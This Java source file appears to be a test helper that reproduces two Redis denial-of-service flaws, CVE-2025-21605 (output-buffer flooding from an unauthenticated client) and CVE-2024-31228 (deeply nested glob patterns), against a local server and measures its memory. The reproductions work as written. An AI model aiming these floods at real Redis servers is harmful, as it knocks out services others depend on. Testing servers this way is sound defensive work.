package joshua.redis;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

/** The attacks of a local attacker on Redis, and what they cost Redis. */
final class RedisAttacks {
  private static final byte[] COMMANDS =
      "A\r\n".repeat(100_000).getBytes(StandardCharsets.US_ASCII);

  private RedisAttacks() {}

  /**
   * CVE-2025-21605: endless commands from a client that hasn't logged in and reads no answer.
   *
   * @return whether Redis closed the connection in time
   */
  static boolean fillsTheOutputBuffer(int port, Duration within) throws Exception {
    long deadline = System.nanoTime() + within.toNanos();
    try (SocketChannel channel = SocketChannel.open()) {
      channel.socket().setReceiveBufferSize(4_096);
      channel.connect(new InetSocketAddress("127.0.0.1", port));
      channel.configureBlocking(false);
      while (System.nanoTime() < deadline) {
        if (channel.write(ByteBuffer.wrap(COMMANDS)) == 0) {
          Thread.onSpinWait();
        }
      }
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  /**
   * CVE-2024-31228: a pattern that takes the matching function {@code depth} calls deep.
   *
   * @return what Redis answered to the PUBLISH, or that it closed the connection
   */
  static String nestsPatterns(int port, String password, int depth) throws IOException {
    try (RespClient subscriber = new RespClient(port);
        RespClient publisher = new RespClient(port)) {
      subscriber.call("AUTH", password);
      publisher.call("AUTH", password);
      subscriber.call("PSUBSCRIBE", "mad." + "*a".repeat(depth));
      return publisher.call("PUBLISH", "mad." + "a".repeat(depth), "x");
    } catch (IOException e) {
      return String.valueOf(e.getMessage());
    }
  }

  /** The most memory that a process has held so far, in bytes; only Linux reports it. */
  static long mostMemory(long pid) throws IOException {
    return Files.readAllLines(Path.of("/proc", Long.toString(pid), "status")).stream()
        .filter(line -> line.startsWith("VmHWM:"))
        .mapToLong(line -> Long.parseLong(line.replaceAll("\\D", "")) * 1024)
        .findFirst()
        .orElseThrow();
  }
}
